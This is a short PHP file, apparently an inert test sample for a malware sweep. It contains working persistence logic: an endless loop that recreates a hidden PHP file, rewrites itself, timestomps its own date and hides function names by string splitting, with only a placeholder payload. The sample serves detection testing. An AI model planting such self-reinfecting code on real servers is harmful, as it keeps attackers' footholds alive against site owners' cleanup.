<?php
// sweep sample (inert), obfuscated variant: the writing function is assembled from pieces and
// called through a variable, the payload kept in Base64, and the loop written as for(;;); the
// dropped file is a hidden PHP file next to the script.
@set_time_limit(0);@ignore_user_abort(1);$w='file_p'.'ut_con'.'tents';$t='to'.'uch';
$d=dirname(__FILE__).'/.cache-index.php';for(;;){if(!is_file($d)){$w($d,base64_decode('PD9waHAgLyogcGxhY2Vob2xkZXIgKi8gPz4='));}$w(__FILE__,file_get_contents(__FILE__));$t(__FILE__,1546300800);usleep(500);}
